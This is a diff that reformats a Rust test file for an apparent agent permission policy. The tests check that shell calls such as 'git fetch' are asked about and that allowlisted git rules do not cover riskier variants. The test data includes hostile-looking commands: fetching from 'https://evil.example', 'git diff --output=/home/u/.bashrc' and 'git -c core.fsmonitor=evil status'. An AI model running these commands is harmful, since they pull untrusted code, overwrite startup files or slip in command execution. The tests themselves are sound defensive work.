@@ -38,7 +38,12 @@ fn offered(line: &str) -> Vec<String> {
     let p = policy(&[]);
     let ops = p.operations(&Request::shell(line, None), &fs());
     let v = p.judge(&ops);
-    assert_eq!(v.decision, Decision::Ask, "{line} is not asked: {}", v.reason);
+    assert_eq!(
+        v.decision,
+        Decision::Ask,
+        "{line} is not asked: {}",
+        v.reason
+    );
     p.suggestions(&ops, &v)
         .into_iter()
         .map(|o| o.rule)
@@ -126,8 +131,14 @@ fn work_tree_rewriting_git_subcommands_get_their_exact_call() {
         ),
         ("git reset --hard HEAD", &["git reset --hard evil"][..]),
         ("git merge --ff-only main", &["git merge evil"][..]),
-        ("git fetch origin", &["git fetch https://evil.example/x.git"][..]),
-        ("git pull origin main", &["git pull https://evil.example/x.git"][..]),
+        (
+            "git fetch origin",
+            &["git fetch https://evil.example/x.git"][..],
+        ),
+        (
+            "git pull origin main",
+            &["git pull https://evil.example/x.git"][..],
+        ),
         (
             "git remote add mirror https://h.example/x.git",
             &["git remote add evil https://evil.example/x.git"][..],
@@ -168,12 +179,22 @@ fn an_allowlisted_generalisation_still_refuses_what_it_must_not_fold() {
             "Bash(git diff:*)",
             &["git diff --output=/home/u/.bashrc", "git diff --ext-diff"][..],
         ),
-        ("Bash(git show:*)", &["git show --output=/home/u/.bashrc"][..]),
-        ("Bash(git status:*)", &["git -c core.fsmonitor=evil status"][..]),
+        (
+            "Bash(git show:*)",
+            &["git show --output=/home/u/.bashrc"][..],
+        ),
+        (
+            "Bash(git status:*)",
+            &["git -c core.fsmonitor=evil status"][..],
+        ),
     ] {
         let p = policy(&[rule.to_string()]);
         for call in later {
-            assert_ne!(decide(&p, call), Decision::Allow, "`{rule}` allows `{call}`");
+            assert_ne!(
+                decide(&p, call),
+                Decision::Allow,
+                "`{rule}` allows `{call}`"
+            );
         }
     }
     // go test -o FILE writes anywhere: exact only.
